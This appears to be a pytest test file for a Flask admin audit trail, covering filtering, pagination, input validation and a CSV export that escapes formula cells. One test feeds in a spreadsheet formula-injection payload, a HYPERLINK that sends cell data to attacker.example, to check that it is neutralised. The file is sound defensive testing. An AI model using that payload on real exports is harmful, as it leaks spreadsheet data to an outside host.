"""The audit trail of everyone: filters, pages by the last event seen (ties in time too),
bad input as 400s, and the CSV download with formula cells neutralised."""

from __future__ import annotations

import csv
import io
import re
from datetime import timedelta

import pytest

from flaskr.admin.trail import CSV_COLUMNS, safe_cell
from tests.admin.conftest import grant
from tests.support.database import db_of
from tests.support.users import add_user
from tests.support.web import page_text, post_login, signed_in_client

# The time is in a <time> element (flaskr.js shows it in the reader's zone): its text is UTC.
EVENT_ROW = re.compile(
    r"<tr>\s*<td>(?:<time[^>]*>)?([^<]*)(?:</time>)?</td>"
    r"\s*<td>([^<]*)</td>\s*<td>(?:<a [^>]+>)?([^<]*)"
)


def shown(response) -> list[tuple[str, str]]:
    """(what happened, account) of each row, in order."""
    assert response.status_code == 200, page_text(response)
    html = response.get_data(as_text=True)
    return [(m.group(2).strip(), m.group(3).strip()) for m in EVENT_ROW.finditer(html)]


def older(response) -> str | None:
    found = re.search(r'<a href="([^"]+)" rel="next">', response.get_data(as_text=True))
    return found.group(1).replace("&amp;", "&") if found else None


def rows_of(response) -> list[dict[str, str]]:
    assert response.status_code == 200
    assert response.mimetype == "text/csv"
    return list(csv.DictReader(io.StringIO(response.get_data(as_text=True))))


@pytest.mark.db
def test_filter_by_event_user_address_and_time(admin_app, admin, clock):
    stranger = admin_app.test_client()
    post_login(stranger, "bob", "wrong-password-1", ip="203.0.113.5")
    clock.advance(minutes=90)
    post_login(stranger, "bob", "wrong-password-2", ip="203.0.113.6")
    everything = shown(admin.get("/admin/audit"))
    assert ("Failed sign-in (wrong password)", "bob") in everything
    assert ("Signed in", "alice") in everything
    assert {a for _, a in shown(admin.get("/admin/audit?user=BOB"))} == {"bob"}
    failed = shown(admin.get("/admin/audit?event=sign_in_failed"))
    assert failed == [("Failed sign-in (wrong password)", "bob")] * 2
    assert len(shown(admin.get("/admin/audit?event=sign_in_failed&ip=203.0.113.6"))) == 1
    assert shown(admin.get("/admin/audit?ip=198.51.100.99")) == []
    since = clock.at.replace(second=0, microsecond=0).strftime("%Y-%m-%dT%H:%M")
    recent = shown(admin.get(f"/admin/audit?event=sign_in_failed&since={since}"))
    assert len(recent) == 1
    before = shown(admin.get(f"/admin/audit?event=sign_in_failed&until={since}"))
    assert len(before) == 1


def insert_events(app, name: str, count: int, event: str = "sign_in_failed") -> None:
    """`count` events about `name`'s account, all at this one moment, from addresses
    203.0.113.0 upwards, stored straight (a sign-in would lock the account after five)."""
    from flaskr.identity import clock, users

    with app.app_context():
        user_id, now = users.find_user(name)["_id"], clock.now()
    db_of(app).auth_events.insert_many(
        [
            {
                "user_id": user_id,
                "event": event,
                "actor": "self",
                "ip": f"203.0.113.{i % 250}",
                "user_agent": "",
                "at": now,
                "expires_at": now + timedelta(days=1),
            }
            for i in range(count)
        ]
    )


@pytest.mark.db
def test_pages_of_fifty_newest_first_with_ties_in_time(admin_app, admin, clock):
    # The clock stands still: 120 events share one time, and only their ids order them.
    insert_events(admin_app, "bob", 120)
    first = admin.get("/admin/audit?event=sign_in_failed")
    second = admin.get(older(first))
    third = admin.get(older(second))
    assert (len(shown(first)), len(shown(second)), len(shown(third))) == (50, 50, 20)
    assert older(third) is None
    addresses = []
    for page in (first, second, third):
        addresses += re.findall(r"<td>(203\.0\.113\.\d+)</td>", page.get_data(as_text=True))
    assert addresses == [f"203.0.113.{i % 250}" for i in reversed(range(120))]


@pytest.mark.db
@pytest.mark.parametrize(
    "query, reason",
    [
        ("since=yesterday", "Give a time as YYYY-MM-DDTHH:MM (UTC)."),
        ("until=2026-13-01T00:00", "Give a time as YYYY-MM-DDTHH:MM (UTC)."),
        ("event=no_such_event", "Not a valid choice."),
        ("after=garbage", "That page link is not valid: start again from the newest events."),
        ("after=2026-01-01T00:00:00~nothex", "That page link is not valid"),
        ("ip=" + "1" * 65, "Field cannot be longer than 64 characters."),
        ("user=a&user=b", "Send each field once."),
    ],
)
def test_bad_filters_are_400_with_the_reason(admin, query, reason):
    response = admin.get(f"/admin/audit?{query}")
    assert response.status_code == 400
    assert reason in page_text(response)
    if not query.startswith("after="):  # the download has every match: no pages
        assert admin.get(f"/admin/audit.csv?{query}").status_code == 400


@pytest.mark.db
def test_an_unknown_username_matches_nothing_and_says_so(admin):
    response = admin.get("/admin/audit?user=nobody")
    assert shown(response) == []
    assert "No account has that username." in page_text(response)
    assert rows_of(admin.get("/admin/audit.csv?user=nobody")) == []


@pytest.mark.db
def test_the_csv_download_has_every_matching_event(admin_app, admin):
    stranger = admin_app.test_client()
    for i in range(3):
        post_login(stranger, "bob", f"wrong-password-{i}", ip="203.0.113.7")
    response = admin.get("/admin/audit.csv?event=sign_in_failed")
    assert response.headers["Content-Disposition"].startswith('attachment; filename="audit-')
    rows = rows_of(response)
    assert [r["event"] for r in rows] == ["sign_in_failed"] * 3
    assert {(r["username"], r["actor"], r["ip"]) for r in rows} == {("bob", "self", "203.0.113.7")}
    everything = rows_of(admin.get("/admin/audit.csv"))
    assert len(everything) > 3
    assert list(everything[0]) == CSV_COLUMNS
    assert {"time", "event", "username", "actor", "ip", "user_agent", "role"} <= set(CSV_COLUMNS)
    roles = [r for r in everything if r["event"] == "role_granted"]
    assert [(r["username"], r["actor"], r["role"]) for r in roles] == [("alice", "cli", "admin")]


@pytest.mark.db
def test_the_csv_neutralises_cells_a_spreadsheet_would_run(admin_app, admin):
    add_user(admin_app, "-carol")
    evil = '=HYPERLINK("http://attacker.example/?"&A1,"click")'
    signed_in_client(admin_app, "-carol", agent=evil)
    rows = [
        r for r in rows_of(admin.get("/admin/audit.csv?event=sign_in")) if "carol" in r["username"]
    ]
    assert [(r["username"], r["user_agent"]) for r in rows] == [("'-carol", "'" + evil)]


@pytest.mark.parametrize(
    "value, cell",
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("alice", "alice"),
        ("a=1", "a=1"),
        (None, ""),
        ("", ""),
    ],
)
def test_safe_cell(value, cell):
    assert safe_cell(value) == cell


@pytest.mark.db
def test_many_events_stream_in_chunks(admin_app, admin):
    insert_events(admin_app, "bob", 1234, "sign_in")
    response = admin.get("/admin/audit.csv?user=bob")
    assert response.is_streamed
    assert len(rows_of(response)) == 1234


@pytest.mark.db
def test_a_second_admin_is_listed_as_the_actor(admin_app, admin):
    grant(admin_app, "bob")
    rows = rows_of(admin.get("/admin/audit.csv?event=role_granted&user=bob"))
    assert [(r["actor"], r["role"]) for r in rows] == [("cli", "admin")]


AGES = [
    timedelta(minutes=10),
    timedelta(minutes=50),
    timedelta(hours=5),
    timedelta(days=2),
    timedelta(days=6, hours=23),
    timedelta(days=20),
    timedelta(days=45),
    timedelta(days=100),  # past the retention, not yet swept: not shown
]
RETENTION = timedelta(days=90)


@pytest.mark.db
def test_pages_cross_the_stretches_of_time_it_reads_in(admin_app, clock):
    from flaskr.identity import audit, users

    with admin_app.app_context():
        bob = users.find_user("bob")["_id"]
        now = clock.at
        ids = [
            db_of(admin_app)
            .auth_events.insert_one(
                {
                    "user_id": bob,
                    "event": "sign_in",
                    "actor": "self",
                    "ip": f"203.0.113.{i}",
                    "user_agent": "",
                    "at": now - age,
                    "expires_at": now + timedelta(days=90),
                }
            )
            .inserted_id
            for i, age in enumerate(AGES)
        ]
        pages, after = [], None
        while True:
            page = audit.trail(
                audit.Filters(user_id=bob), now=now, retention=RETENTION, limit=2, after=after
            )
            pages.append([e["_id"] for e in page])
            if len(page) < 2:
                break
            after = (page[-1]["at"], page[-1]["_id"])
        assert pages == [ids[0:2], ids[2:4], ids[4:6], ids[6:7]]
        everything = audit.every(audit.Filters(user_id=bob), now=now, retention=RETENTION, batch=3)
        assert [e["_id"] for e in everything] == ids[:7]
        week = audit.Filters(user_id=bob, since=now - timedelta(days=7), until=now)
        assert [e["_id"] for e in audit.trail(week, now=now, retention=RETENTION, limit=50)] == ids[
            :5
        ]
        older = audit.Filters(user_id=bob, until=now - timedelta(days=3))
        assert [
            e["_id"] for e in audit.trail(older, now=now, retention=RETENTION, limit=50)
        ] == ids[4:7]
